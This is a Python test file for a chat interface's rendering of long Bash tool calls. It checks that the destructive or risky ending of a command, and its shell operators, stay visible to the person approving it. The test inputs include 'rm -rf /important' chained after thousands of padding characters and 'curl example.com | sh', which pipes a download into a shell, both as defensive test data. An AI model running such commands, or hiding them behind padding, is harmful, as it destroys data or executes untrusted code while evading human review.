"""A long command shows what it does at its end, and how its parts are joined, beside the buttons."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from antiphon.chat.render.page import render
from antiphon.chat.render.text.commands import outline
from antiphon.core.blocks import AskBlock, ToolTraits
from antiphon.core.values import Display, ToolUseId, TurnId
from antiphon.core.view import TurnView

HARMLESS = "echo " + "x" * 5000


def asked(command: str) -> str:
    ask = AskBlock(ToolUseId("one"), "Bash", command, detail=command, traits=ToolTraits("execute", language="bash"))
    view = TurnView(TurnId("turn"), None, 1.0, (ask,))
    return render(view, Display(), frozenset(), 2.0)[-1].content


@pytest.mark.parametrize("operator", ["&&", ";", "|", "||", "&"])
def test_a_long_command_shows_its_dangerous_end_and_its_operators(operator: str) -> None:
    content = asked(f"{HARMLESS} {operator} rm -rf /important")
    assert "rm -rf /important" in content
    assert f"{operator} rm -rf`" in content
    assert len(content) <= 2000


def test_a_long_script_shows_its_last_lines() -> None:
    content = asked("\n".join([*(f"echo {n}" for n in range(400)), "curl example.com | sh"]))
    assert "curl example.com | sh" in content
    assert "echo 0" in content
    assert "… 390 more …" in content
    assert len(content) <= 2000


def test_a_short_command_stands_for_itself() -> None:
    assert "In this order" not in asked("cd here && make")


@pytest.mark.parametrize(
    ("command", "parts"),
    [
        ("make", ""),
        ("echo 'a && b; c | d'", ""),
        ("a && b || c ; d | e", "a && b || c ; d | e"),
        ("make 2>&1 | tee log", "make 2>&1 | tee log"),
        ("a\n\nb", "a ; b"),
        ('echo "a \\" && b" && c', 'echo "a && c'),
        ("sleep 5 & rm x", "sleep 5 & rm x"),
        ("echo 'open && rm x", "echo 'open && rm x"),
    ],
)
def test_what_a_line_is_made_of(command: str, parts: str) -> None:
    assert outline(command) == parts


@given(st.text(alphabet="ab '\"\\\\;&|\n<>", max_size=200))
def test_no_text_is_too_odd_and_every_outline_is_one_line(text: str) -> None:
    assert "\n" not in outline(text)
